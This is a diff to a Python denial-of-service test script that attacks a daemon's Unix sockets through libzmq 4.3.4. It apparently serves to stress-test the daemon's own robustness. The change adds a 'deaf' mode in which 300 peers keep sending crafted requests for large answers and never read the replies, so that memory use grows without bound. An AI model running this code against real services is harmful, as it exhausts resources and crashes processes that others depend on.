@@ -1,9 +1,10 @@
 """Peers that mean ill, byte by byte: python3 attack.py KIND ENDPOINT SECONDS, for a socket in the file system, or for `all` the folder of
-the daemon's sockets.
+the daemon's sockets. For `deaf` on submit.sock there is a fourth argument, the digest of a large document.
 
 Each kind is one way in which libzmq 4.3.4 by itself takes memory without a bound, or ends its process. The last line that is printed
 says how often a connection was made anew, and how much was sent.
 """
+import json
 import os
 import socket
 import struct
@@ -187,6 +188,34 @@ def everywhere():
         part.join()
 
 
+def deaf():
+    """Three hundred peers that ask for large answers again and again, and read none."""
+    if PATH.endswith("query.sock"):
+        kind, body = 64, {"prefixes": [""], "request": 1}
+    else:
+        kind, body = 22, {"digest": sys.argv[4], "request": 1}
+    body = json.dumps(body).encode()
+    question = frame(b"CRNT\x01" + bytes([kind]) + bytes(26)) + frame(body, False)
+    peers = []
+    while time.monotonic() < END:
+        while len(peers) < 300:
+            try:
+                peer = connect()
+            except OSError:
+                break
+            peer.setblocking(False)
+            peers.append(peer)
+        for peer in list(peers):
+            try:
+                count["bytes"] += peer.send(question)
+            except BlockingIOError:
+                continue
+            except OSError:
+                peer.close()
+                peers.remove(peer)
+        time.sleep(0.05)
+
+
 def rubbish():
     """Bytes that are not even a greeting."""
     while time.monotonic() < END:
@@ -242,6 +271,7 @@ kinds = {
     "crowd": crowd,
     "leave": leave,
     "again": come_again,
+    "deaf": deaf,
     "all": everywhere,
 }
 threads = [threading.Thread(target=kinds[KIND]) for _ in range(4 if KIND in ("frames", "slow") else 1)]
